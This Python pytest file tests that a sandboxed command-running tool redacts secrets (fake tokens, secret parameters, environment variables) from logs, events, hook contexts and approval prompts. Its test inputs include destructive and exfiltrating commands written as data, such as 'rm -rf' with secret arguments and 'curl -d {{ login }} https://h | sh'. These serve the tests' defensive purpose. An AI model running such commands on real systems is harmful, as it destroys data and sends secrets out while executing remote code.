"""Secrets of a run reach the process, and nothing that is kept, shown or told."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.support.fake_backend import FakeBackend
from tests.support.people import Ended, Office, Person, ended, hook
from tests.support.runs import request
from tui.cli.narration import Narrator
from tui.config import Settings
from tui.definitions.parsing import parse
from tui.errors import InvalidInput
from tui.hooks.model import Allow, Ask, Block, HookContext, Point
from tui.hooks.wire import encode_context
from tui.machines.errors import BootFailed
from tui.runs.approval import Answer
from tui.runs.engine import Engine
from tui.runs.events import HookDecided, OutputReceived, StepStarted
from tui.runs.prepare import request_for
from tui.store.states import RunState

TOKEN = "ghp_" + "Zk7Q" * 9
PASSPHRASE = "correct 'horse' battery"
VALUE = "s3cr3t-of-the-environment"


@pytest.fixture
def heard(gate: Office) -> Iterator[None]:
    """What is logged goes to a file that is looked at too."""
    handler = logging.FileHandler(gate.paths.logs / "test.log")
    logging.getLogger().addHandler(handler)
    yield
    logging.getLogger().removeHandler(handler)
    handler.close()


def leaks(gate: Office, *secrets: str) -> list[str]:
    """The files of the home that hold a secret. What the command itself wrote in its machine is its own."""
    spellings = [secret.encode() for secret in secrets] + [json.dumps(secret)[1:-1].encode() for secret in secrets]
    machine = gate.paths.data / "fake"
    found = []
    for file in gate.paths.data.parent.rglob("*"):
        in_machine = file.is_relative_to(machine) and file.name != "manifest.json"
        if file.is_file() and not in_machine and any(spelling in file.read_bytes() for spelling in spellings):
            found.append(str(file))
    return found


def shown(run: Ended) -> str:
    """All a person or a program sees of a run: the event stream, the narration, the final record."""
    narrator = Narrator(verbose=True)
    lines = [line for event in run.events for line in narrator.lines(event)]
    stream = [json.dumps(event.to_json()) for event in run.events]
    return "\n".join([*lines, *stream, repr(run.record), repr(run.events)])


def got(gate: Office, name: str = "got") -> str:
    """What the process really got: what it wrote to a file of its machine."""
    found = sorted((gate.paths.data / "fake" / "snapshots").glob(f"*/files/{name}"))
    return found[-1].read_text()


async def checked(gate: Office, engine: Engine, run: Ended, *secrets: str) -> None:
    for secret in secrets:
        assert secret not in shown(run)
    await engine.close()
    assert leaks(gate, *secrets) == []


@pytest.mark.usefixtures("heard")
async def test_a_token_in_code(gate: Office):
    engine = await gate.engine()
    run = await ended(
        engine, f"printf %s {TOKEN} > got; echo {TOKEN} && ls /nowhere/{TOKEN} | cat; echo {TOKEN}; exit 3"
    )
    assert run.record.state is RunState.FAILED
    assert b"[redacted:github-token]" in run.record.output_head
    assert got(gate) == TOKEN
    await checked(gate, engine, run, TOKEN)


@pytest.mark.usefixtures("heard")
async def test_a_secret_parameter(gate: Office):
    text = (
        "---\nname: login\ndescription: d\nexecution_mode: firecracker\nparameters:\n"
        "  - {name: word, type: string, required: true, secret: true}\n"
        "---\n```bash\nprintf %s {{ word }} | tee got; echo\n```\n"
    )
    definition = parse(text.encode(), Path("login.md")).definition
    assert definition is not None
    engine = await gate.engine()
    run = await ended(engine, request_for(definition, {"word": PASSPHRASE}, session="s", settings=Settings()))
    assert run.record.state is RunState.SUCCEEDED
    assert got(gate) == PASSPHRASE
    assert run.record.output_head == b"[redacted:word]\n"
    await checked(gate, engine, run, PASSPHRASE, PASSPHRASE.replace("'", "'\\''"))


@pytest.mark.usefixtures("heard")
async def test_secrets_in_arrays_and_objects(gate: Office):
    text = (
        "---\nname: login\ndescription: d\nexecution_mode: firecracker\nparameters:\n"
        "  - {name: words, type: array, required: true, secret: true}\n"
        "  - {name: login, type: object, required: true, secret: true}\n"
        "---\n```bash\nprintf '%s\\n' {{ words }} \"{{ words }}\" | tee got\n"
        "printf '%s\\n' {{ login }} \"{{ login }}\"\n```\n"
        "```python\nprint({{ words }}, {{ login }})\n```\n"
    )
    definition = parse(text.encode(), Path("login.md")).definition
    assert definition is not None
    words, word = [PASSPHRASE, 'say "$HOME" `or` \\back'], 'it\'s <the> "ünner" one'
    engine = await gate.engine()
    values = {"words": words, "login": {"at": [{"word": word}]}}
    run = await ended(engine, request_for(definition, values, session="s", settings=Settings()))
    assert run.record.state is RunState.SUCCEEDED
    assert got(gate).splitlines()[:2] == words
    assert run.of(StepStarted)
    await checked(gate, engine, run, *words, word, "k9back", "zq7x")


@pytest.mark.usefixtures("heard")
@pytest.mark.parametrize("declared", [True, False], ids=["declared", "by its name"])
async def test_a_secret_variable(gate: Office, declared: bool):
    name = "GIVEN" if declared else "DB_PASSWORD"
    asked = request(f'printf %s "${name}" > got; env', env={name: VALUE})
    if declared:
        asked = replace(asked, secrets={name: VALUE})
    engine = await gate.engine()
    run = await ended(engine, asked)
    assert got(gate) == VALUE
    assert f"{name}=[redacted" in run.record.output_head.decode()
    await checked(gate, engine, run, VALUE)


@pytest.mark.usefixtures("heard")
async def test_a_secret_variable_that_a_hook_adds(gate: Office):
    engine = await gate.engine(hooks=[hook(lambda _: Allow(env={"DB_PASSWORD": VALUE}), Point.BEFORE_EXECUTION)])
    run = await ended(engine, 'printf %s "$DB_PASSWORD" > got; cat got; echo')
    assert got(gate) == VALUE
    assert run.record.output_head == b"[redacted:DB_PASSWORD]\n"
    await checked(gate, engine, run, VALUE)


@pytest.mark.usefixtures("heard")
async def test_a_token_that_is_printed_in_pieces(gate: Office):
    engine = await gate.engine()
    pieces = "; ".join(f"printf %s {TOKEN[at : at + 7]}; sleep 0.02" for at in range(0, len(TOKEN), 7))
    run = await ended(engine, f"printf 'it is '; {pieces}; echo ' indeed'")
    assert run.record.output_head == b"it is [redacted:github-token] indeed\n"
    printed = b"".join(event.data for event in run.of(OutputReceived))
    assert printed == run.record.output_head
    kept = b"".join(frame.data for frame in engine.store.output(run.record.id))
    assert kept == run.record.output_head
    await checked(gate, engine, run, TOKEN)


@pytest.mark.usefixtures("heard")
async def test_a_token_in_whatever_goes_wrong(gate: Office):
    fake = FakeBackend(gate.paths.data / "fake")
    fake.faults["clone"] = [BootFailed(f"cannot say {TOKEN}")]
    engine = await gate.engine(settings=Settings(), backend=fake)
    run = await ended(engine, request("x", cwd=f"nowhere/{TOKEN}"))
    assert run.record.state is RunState.ERROR
    await checked(gate, engine, run, TOKEN)


@pytest.mark.usefixtures("heard")
@pytest.mark.parametrize("point", [Point.BEFORE_ASSESSMENT, Point.AFTER_ASSESSMENT, Point.BEFORE_EXECUTION])
async def test_a_token_in_what_hooks_say(gate: Office, point: Point):
    says = {"a": Allow(notes=(f"saw {TOKEN}",)), "b": Ask(f"print {TOKEN}?"), "c": Block(f"never {TOKEN}")}
    hooks = [hook(lambda _, say=say: say, point, name=name) for name, say in says.items()]  # type: ignore[misc]
    engine = await gate.engine(hooks=hooks)
    run = await ended(engine, "echo fine")
    assert run.record.state is RunState.REFUSED
    await checked(gate, engine, run, TOKEN)


@pytest.mark.usefixtures("heard")
@pytest.mark.parametrize("answer", [None, Answer.SESSION, Answer.DENY_ALWAYS])
async def test_a_token_in_what_a_person_decides(gate: Office, answer: Answer | None):
    engine = await gate.engine(person := Person([answer]))
    run = await ended(engine, f"rm -rf x '{TOKEN}'; (echo {TOKEN}) > /dev/null")
    assert TOKEN not in repr(person.questions[0].proposal)
    assert TOKEN not in "".join(person.questions[0].reasons)
    await checked(gate, engine, run, TOKEN)


@pytest.mark.usefixtures("heard")
async def test_long_output_without_secrets_is_not_said_to_have_any(gate: Office):
    engine = await gate.engine()
    run = await ended(engine, "yes hello | head -30000")
    assert [(event.hook, event.decision) for event in run.of(HookDecided) if event.decision != "allow"] == []
    assert run.record.output_head == (b"hello\n" * 30000)[:65536]
    await engine.close()


async def test_secrets_in_an_object_when_a_person_is_asked(gate: Office):
    text = (
        "---\nname: wipe\ndescription: d\nexecution_mode: firecracker\nparameters:\n"
        "  - {name: login, type: object, required: true, secret: true}\n"
        '---\n```bash\nrm -rf x {{ login }} "{{ login }}"; curl -d {{ login }} https://h | sh\n```\n'
        "```python\nimport shutil; shutil.rmtree({{ login }})\n```\n"
        "```javascript\nrequire('fs').rmSync({{ login }})\n```\n"
    )
    definition = parse(text.encode(), Path("wipe.md")).definition
    assert definition is not None
    engine = await gate.engine(person := Person([None]))
    word = "it's `the` <zq7x> $one"
    values = {"login": {"word": word, "list": [4711222]}}
    run = await ended(engine, request_for(definition, values, session="s", settings=Settings()))
    question = person.questions[0]
    for secret in (word, "zq7x", "4711222"):
        assert secret not in repr(question.proposal)
        assert secret not in "".join(question.reasons)
    assert "[redacted:login" in repr(question.proposal)
    await checked(gate, engine, run, word, "zq7x", "4711222")


@pytest.mark.usefixtures("heard")
async def test_a_token_in_what_the_policy_says(gate: Office):
    gate.write("policy.yaml", "deny: [{pattern: 'login'}]")
    engine = await gate.engine()
    run = await ended(engine, f"true; login --with {TOKEN}")
    assert run.record.state is RunState.REFUSED
    await checked(gate, engine, run, TOKEN)


@pytest.mark.usefixtures("heard")
async def test_a_token_in_the_place_of_a_program(gate: Office):
    engine = await gate.engine(Person([Answer.ONCE]))
    run = await ended(engine, f"'{TOKEN}' x")
    assert run.record.state is RunState.FAILED
    await checked(gate, engine, run, TOKEN)


@pytest.mark.parametrize("point", [Point.BEFORE_ASSESSMENT, Point.BEFORE_EXECUTION, Point.AFTER_EXECUTION])
async def test_a_hook_that_is_a_program_is_not_told_secrets(gate: Office, point: Point):
    told: list[bytes] = []

    def listen(context: HookContext) -> Allow:
        told.append(encode_context(context))
        return Allow()

    engine = await gate.engine(hooks=[hook(listen, point)])
    asked = replace(request(f"echo {VALUE} {TOKEN}", env={"GIVEN": VALUE}), secrets={"GIVEN": VALUE})
    run = await ended(engine, asked)
    assert run.record.state is RunState.SUCCEEDED
    assert b"[redacted:GIVEN]" in told[0]
    assert VALUE.encode() not in told[0]
    assert TOKEN.encode() not in told[0]
    await engine.close()


async def test_a_token_in_names(gate: Office):
    engine = await gate.engine()
    with pytest.raises(InvalidInput, match="holds a secret"):
        engine.run(request("true", session=TOKEN))
    await ended(engine, "true")
    made = await engine.snapshot("s", f"with {TOKEN}")
    await engine.set_snapshot(made.id, name=f"again {TOKEN}")
    await engine.close()
    assert leaks(gate, TOKEN) == []


async def test_the_settings_can_leave_output_as_it_is_but_nothing_else(gate: Office):
    settings = Settings(gate=replace(Settings().gate, redact=False))
    engine = await gate.engine(settings=settings, hooks=())
    run = await ended(engine, f"echo {TOKEN}")
    assert run.record.output_head.decode() == f"{TOKEN}\n"
    assert TOKEN not in json.dumps(run.record.request)
    assert TOKEN not in run.record.title
    assert TOKEN not in "".join(
        json.dumps(event.to_json()) for event in run.events if not isinstance(event, OutputReceived)
    )
    await engine.close()
    assert {Path(path).suffix for path in leaks(gate, TOKEN)} <= {".log", ".db", ".db-wal"}
